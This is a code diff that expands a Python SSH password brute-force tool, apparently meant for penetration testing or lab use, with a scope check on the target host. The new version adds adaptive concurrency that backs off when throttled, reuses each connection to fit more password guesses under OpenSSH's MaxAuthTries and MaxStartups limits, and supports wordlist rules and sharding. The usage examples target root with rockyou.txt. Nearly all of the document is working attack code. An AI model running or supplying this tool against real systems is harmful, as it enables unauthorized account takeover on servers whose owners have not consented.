@@ -1,51 +1,292 @@
+import argparse
+import logging
+import os
 import paramiko
+import queue
+import socket
 import sys
+import threading
 from concurrent.futures import ThreadPoolExecutor
 import time
 
-def ssh_attempt(user, host, password, index, total_passwords):
-    percentage = (index / total_passwords) * 100
-    print(f"Trying ({index} out of {total_passwords}) {percentage:.2f}%")
-    
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from util.concurrency import AIMD, Backoff, ThreadGate, is_fatal, is_throttle, retry_throttled
+from util.rules import RuleError, apply_rules, load_rules
+from util.scope import add_scope_arguments, scope_from_args
+from util.wordlist import iter_wordlist
+from util.wordlist_index import WordlistIndexError, add_slice_arguments, count_lines, slice_from_args
+
+"""
+python3 attacks/ssh_bruteforce_v3.py root 10.10.10.10 -w rockyou.txt
+python3 attacks/ssh_bruteforce_v3.py root 10.10.10.10 -w rockyou.txt --reuse --max-startups 10
+
+--reuse keeps each connection open and tries passwords on it until the server
+hangs up (OpenSSH allows MaxAuthTries, 6 by default, per connection), so the
+key exchange is paid once per connection instead of once per password. Every
+open connection counts against the server's MaxStartups while it is still
+unauthenticated, so the pool never grows past --max-startups.
+
+pip3 install paramiko
+"""
+
+SSH_ERRORS = (EOFError, OSError, paramiko.SSHException)
+
+
+def try_password(user, host, port, password, gate):
+    """True on success, False when the password was rejected."""
     client = paramiko.SSHClient()
     client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     try:
-        client.connect(host, username=user, password=password)
-        print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
-        exit(0)
-    except EOFError:
-        print("[-] Connection reset by peer, waiting before retrying...")
-        time.sleep(1)
+        client.connect(host, port=port, username=user, password=password)
+        return True
     except paramiko.AuthenticationException:
-        print(f"[-] {password} failed")
-    except paramiko.SSHException as e:
-        print(f"SSH error occurred: {str(e)}")
+        gate.success()
+        return False
     finally:
         client.close()
 
-def main():
-    if len(sys.argv) != 3:
-        print("Usage: python ssh-bruteforce.py <user> <host>")
+
+def progress(index, total_passwords):
+    if total_passwords is None:
+        print(f"Trying ({index})")
+        return
+    percentage = (index / total_passwords) * 100
+    print(f"Trying ({index} out of {total_passwords}) {percentage:.2f}%")
+
+
+def ssh_attempt(user, host, port, password, index, total_passwords, gate, found, max_retries=10):
+    progress(index, total_passwords)
+
+    try:
+        success = retry_throttled(
+            gate, lambda: try_password(user, host, port, password, gate), found, SSH_ERRORS, max_retries
+        )
+    except SSH_ERRORS as e:
+        if is_fatal(e):
+            print(f"[-] {host} refused the connection, stopping: {e}")
+            found.set()
+        elif is_throttle(e):
+            print(f"[-] Giving up on {password} after {max_retries} throttled attempts")
+        else:
+            print(f"SSH error occurred: {str(e)}")
         return
+    if success:
+        print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
+        found.set()
+    elif success is False:
+        print(f"[-] {password} failed")
+
+
+def open_transport(host, port, timeout):
+    sock = socket.create_connection((host, port), timeout=timeout)
+    transport = paramiko.Transport(sock)
+    transport.banner_timeout = timeout
+    transport.start_client(timeout=timeout)
+    return transport
+
+
+def reuse_worker(user, host, port, attempts, stop, total_passwords, gate, timeout=10, max_failures=10):
+    """Tries passwords from `attempts` on one connection, reconnecting only when it drops."""
+    transport = None
+    item = None
+    backoff = Backoff(gate, max_failures)
+    holding = False  # a gate slot is held for as long as the connection is open
+    connecting = False  # only errors before the handshake say anything about load
+    answered = False  # counted towards the gate once per connection
+    try:
+        while not stop.is_set():
+            if item is None:
+                item = attempts.get()
+                if item is None:
+                    return
+            index, password = item
+            try:
+                if transport is None or not transport.is_active():
+                    if holding:
+                        gate.release()
+                    gate.acquire()
+                    holding, answered, connecting = True, False, True
+                    transport = open_transport(host, port, timeout)
+                    connecting = False
+                progress(index, total_passwords)
+                transport.auth_password(user, password)
+            except paramiko.BadAuthenticationType as e:
+                print(f"[-] Server does not accept passwords: {e.allowed_types}")
+                stop.set()
+                return
+            except paramiko.AuthenticationException:
+                if not answered:
+                    answered = True
+                    gate.success()
+                if not transport.is_active():
+                    # "transport shut down or saw EOF": the server hung up before
+                    # answering, keep the password for the next connection
+                    print(f"[-] Disconnected while trying {password}, reconnecting...")
+                    transport.close()
+                    transport = None
+                    gate.release()
+                    holding = False
+                    continue
+                print(f"[-] {password} failed")
+                item = None
+                backoff.reset()
+                continue
+            except SSH_ERRORS as e:
+                # the server dropped us mid-attempt, the password was not tested:
+                # keep it and try again on a fresh connection
+                if is_fatal(e):
+                    print(f"[-] {host} refused the connection, stopping: {e}")
+                    stop.set()
+                    return
+                throttled = connecting and is_throttle(e)
+                if throttled:
+                    gate.throttled()
+                print(f"[-] Connection lost ({e.__class__.__name__}), concurrency now {gate.limit}, reconnecting...")
+                if transport is not None:
+                    transport.close()
+                transport = None
+                if holding:
+                    gate.release()
+                    holding = False
+                if backoff.failed(throttled):
+                    print(f"[-] {backoff.failures} connections in a row failed, giving up")
+                    stop.set()
+                    return
+                time.sleep(backoff.delay())
+                continue
+
+            if not answered:
+                answered = True
+                gate.success()
+            if transport.is_authenticated():
+                print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
+                stop.set()
+                return
+            item = None
+            backoff.reset()
+    finally:
+        if transport is not None:
+            transport.close()
+        if holding:
+            gate.release()
+
 
-    user = sys.argv[1]
-    host = sys.argv[2]
-    #password_list = "rockyou.txt"
-    password_list = "passwords.txt"
+def reuse_main(args, passwords, total_passwords):
+    pool_size = min(args.threads, args.max_startups)
+    # pool_size is the ceiling, the gate decides how many connections are open
+    gate = ThreadGate(AIMD(initial=min(4, pool_size), maximum=pool_size))
+    attempts = queue.Queue(maxsize=pool_size * 2)
+    # set on success or when the target stops answering
+    stop = threading.Event()
+    workers = [
+        threading.Thread(
+            target=reuse_worker,
+            args=(args.user, args.host, args.port, attempts, stop, total_passwords, gate),
+            daemon=True,
+        )
+        for _ in range(pool_size)
+    ]
+    for worker in workers:
+        worker.start()
 
-    with open(password_list, "r", encoding='latin-1') as f:
-        passwords = f.read().splitlines()
+    for index, (_, password) in enumerate(passwords, start=1):
+        while not stop.is_set():
+            try:
+                attempts.put((index, password), timeout=0.5)
+                break
+            except queue.Full:
+                continue
+        if stop.is_set():
+            break
+    for _ in workers:
+        while any(worker.is_alive() for worker in workers):
+            try:
+                attempts.put(None, timeout=0.5)
+                break
+            except queue.Full:
+                continue
+    for worker in workers:
+        worker.join()
+    print(f"[+] Final concurrency {gate.limit}, throttled {gate.controller.throttles} times")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Threaded SSH password bruteforce")
+    parser.add_argument("user")
+    parser.add_argument("host")
+    parser.add_argument("-w", "--wordlist", default="passwords.txt", help="Password wordlist")
+    parser.add_argument("--rules", help="Hashcat-style rules file applied to every word")
+    parser.add_argument("-p", "--port", type=int, default=22)
+    parser.add_argument(
+        "-t", "--threads", type=int, default=16, help="Upper bound, concurrency adapts below it"
+    )
+    parser.add_argument(
+        "--reuse",
+        action="store_true",
+        help="Try several passwords per connection, reconnect only when the server disconnects",
+    )
+    parser.add_argument(
+        "--max-startups",
+        type=int,
+        default=10,
+        help="Server MaxStartups, caps the --reuse connection pool (OpenSSH default 10)",
+    )
+    add_slice_arguments(parser)
+    add_scope_arguments(parser)
+    args = parser.parse_args()
+    # the one host every attempt connects to
+    if not scope_from_args(args, default=[args.host]).allows_host(args.host):
+        parser.error(f"{args.host} is out of scope")
+
+    try:
+        rules = load_rules(args.rules) if args.rules else []
+    except (OSError, RuleError) as e:
+        parser.error(str(e))
+
+    # dropped connections are handled here, don't let paramiko's transport
+    # thread dump a traceback for each one
+    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
+
+    start, end = slice_from_args(args, args.wordlist)
+    # upper bound, rules that reject or repeat a candidate make it smaller. It
+    # comes off the line index, which --shard / --range just built; without them
+    # an existing index is used but none is written (the wordlist's directory may
+    # be read-only), and the total stays unknown
+    try:
+        lines = count_lines(args.wordlist, start, end, build=bool(args.shard or args.range))
+        total_passwords = lines * max(len(rules), 1)
+    except (OSError, WordlistIndexError):
+        total_passwords = None
+    passwords = apply_rules(iter_wordlist(args.wordlist, start, end), rules)
+
+    if args.reuse:
+        try:
+            reuse_main(args, passwords, total_passwords)
+        except KeyboardInterrupt:
+            print("Interrupted by user, shutting down...")
+        return
 
-    total_passwords = len(passwords)
-    threads = 7
+    # only keep a couple of attempts per thread queued, not the whole expanded list
+    pending = threading.BoundedSemaphore(args.threads * 2)
+    # --threads is the ceiling, the gate finds how many the server tolerates
+    gate = ThreadGate(AIMD(initial=min(4, args.threads), maximum=args.threads))
+    found = threading.Event()
 
     try:
-        with ThreadPoolExecutor(max_workers=threads) as executor:
-            for index, password in enumerate(passwords, start=1):
-                executor.submit(ssh_attempt, user, host, password, index, total_passwords)
+        with ThreadPoolExecutor(max_workers=args.threads) as executor:
+            for index, (_, password) in enumerate(passwords, start=1):
+                if found.is_set():
+                    break
+                pending.acquire()
+                future = executor.submit(
+                    ssh_attempt, args.user, args.host, args.port, password, index, total_passwords,
+                    gate, found,
+                )
+                future.add_done_callback(lambda _: pending.release())
     except KeyboardInterrupt:
         print("Interrupted by user, shutting down...")
         exit(0)
+    print(f"[+] Final concurrency {gate.limit}, throttled {gate.controller.throttles} times")
 
 if __name__ == "__main__":
     main()